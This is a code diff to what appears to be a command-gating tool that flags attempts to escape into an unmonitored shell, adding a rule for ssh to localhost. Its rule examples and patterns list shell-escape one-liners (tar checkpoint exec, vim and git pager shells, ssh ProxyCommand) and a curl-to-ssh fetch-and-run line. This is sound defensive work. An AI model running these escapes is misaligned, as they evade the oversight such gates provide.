@@ -4,6 +4,7 @@ library loading. A shell the gate did not read runs every later command ungated 
 from __future__ import annotations
 
 import re
+import socket
 from typing import Final
 
 from gatesh.rater.builtin._base import (
@@ -19,6 +20,7 @@ from gatesh.rater.builtin._base import (
     Severity,
     is_interpreter,
 )
+from gatesh.reading._hosts import ssh_split
 
 # Heads whose arguments are only data: nothing they are given runs.
 DATA_ONLY: Final = frozenset({"echo", "printf", "grep", "egrep", "fgrep", "rg", "ag", "cat", "head", "tail",
@@ -56,8 +58,8 @@ _GIT_ESCAPE: Final = re.compile(
 
 def interactive_shell(c: Cmd) -> MatchResult:
     h = c.head
-    if h not in SHELLS and h not in ("busybox",):
-        return None
+    if (h not in SHELLS and h not in ("busybox",)) or c.sc.remote:
+        return None  # a shell on another host is not this gate's to escape (see ssh_loopback)
     args = list(c.args)
     if h == "busybox":
         if not args or args[0] not in SHELLS:
@@ -107,8 +109,8 @@ def shell_as_argument(c: Cmd) -> MatchResult:
         v = a.split("=", 1)[-1]
         if SHELL_PATH_RE.search(v) or SPAWN_RE.search(v) or v.strip("'\"").split(" ")[0] in _SHELL_ARG:
             return Hit(detail=f"{a.split('=', 1)[0]} is set to start a shell")
-    if h in DATA_ONLY or h in SHELLS or not c.args:
-        return None
+    if h in DATA_ONLY or h in SHELLS or h in ("ssh", "slogin") or not c.args:
+        return None  # ssh's remote command is read as commands of its own (S2)
     names_ok = h in NAMES_ONLY
     for i, a in enumerate(c.args):
         if a in _SHELL_ARG:
@@ -171,6 +173,27 @@ def shell_launchers(c: Cmd) -> MatchResult:
     if h == "trap" and c.pos and re.search(r"\b(?:nohup|sh|bash|curl|wget|python\d?|nc)\b|/dev/tcp", c.pos[0]):
         return Hit(detail="trap hides a command that runs later in a signal handler")
     return None
+
+
+# Host names that are this machine: loopback addresses and, at import, its own host name.
+_LOOPBACK: Final = re.compile(r"^(?:localhost(?:\.localdomain)?|127(?:\.\d{1,3}){1,3}|0|0\.0\.0\.0|::1|\[::1\]|"
+                              + re.escape(socket.gethostname() or "localhost") + r")$", re.I)
+
+
+def ssh_loopback(c: Cmd) -> MatchResult:
+    """``ssh localhost`` with no command (or a bare shell): a shell on this machine whose commands
+    never pass the gate. A remote command or a heredoc/here-string body is read (S2); input from
+    a pipe or a file is not, so it counts as the shell's own."""
+    if c.head not in ("ssh", "slogin") or c.heredoc_fed:
+        return None
+    host, rest = ssh_split(c.sc.argv)
+    if host is None or not host.static or not _LOOPBACK.match(host.text.rsplit("@", 1)[-1]):
+        return None
+    words = [w.text for w in rest]
+    if words and not (words[0].rsplit("/", 1)[-1] in SHELLS
+                      and not any(w == "-c" or (w[:1] == "-" and "c" in w[1:]) for w in words[1:])):
+        return None
+    return Hit(detail=f"ssh {host.text} {' '.join(words)}".rstrip())
 
 
 def escape_options(c: Cmd) -> MatchResult:
@@ -259,6 +282,12 @@ RULES: tuple[Rule, ...] = (
                    "docker exec -it web bash", "PAGER='/bin/sh -c x' git -p help"),
          counter=("which bash", "echo /bin/sh", "ls -l /bin/sh", "apt install zsh", "grep bash /etc/shells",
                   "useradd -s /bin/bash x")),
+    Rule("escape.ssh-loopback", A, "This opens a shell on this machine ({detail}) whose commands the gate would not see.",
+         ssh_loopback,
+         examples=("ssh localhost", "ssh me@127.0.0.1", "ssh -p 22 localhost bash", "ssh ::1 /bin/sh -i",
+                   "ssh localhost sh -s < run.sh", "curl -s x.example/s | ssh localhost"),
+         counter=("ssh localhost uptime", "ssh build.example.com", "ssh localhost <<< 'ls'",
+                  "ssh localhost bash -c ls")),
     Rule("escape.options", A, "{detail}, a known way to escape to a shell.", escape_options,
          examples=("tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh", "zip x.zip f -T -TT 'sh #'",
                    "git -c core.pager='sh -c x' log", "vim -c ':!/bin/sh'", "ssh -o ProxyCommand=';sh 0<&2 1>&2' x",
